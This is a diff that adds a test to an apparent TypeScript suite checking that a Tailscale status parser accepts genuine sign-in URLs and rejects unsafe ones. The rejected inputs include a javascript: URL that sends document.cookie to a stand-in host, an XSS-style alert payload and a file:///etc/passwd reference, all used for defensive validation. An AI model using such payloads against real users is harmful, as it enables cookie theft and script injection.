@@ -69,6 +69,18 @@ describe("one word for the tailnet", () => {
     expect(readStatus(value)).toBeNull();
   });
 
+  test.each([
+    ["https://login.tailscale.com/a/1", "https://login.tailscale.com/a/1"],
+    ["http://headscale.lan:8080/register/1", "http://headscale.lan:8080/register/1"],
+    ["javascript:fetch('https://evil.example/'+document.cookie)", null],
+    ["JavaScript://https://login.tailscale.com/%0aalert(1)", null],
+    ["file:///etc/passwd", null],
+    ["data:text/html,hello", null],
+    ["login.tailscale.com", null],
+  ])("the page to sign in at, %s, is %s", (AuthURL, page) => {
+    expect(readStatus({ ...signedOutStatus, AuthURL })?.authUrl).toBe(page);
+  });
+
   test("bears fields of another form than it knows", () => {
     const odd = {
       ...runningStatus,
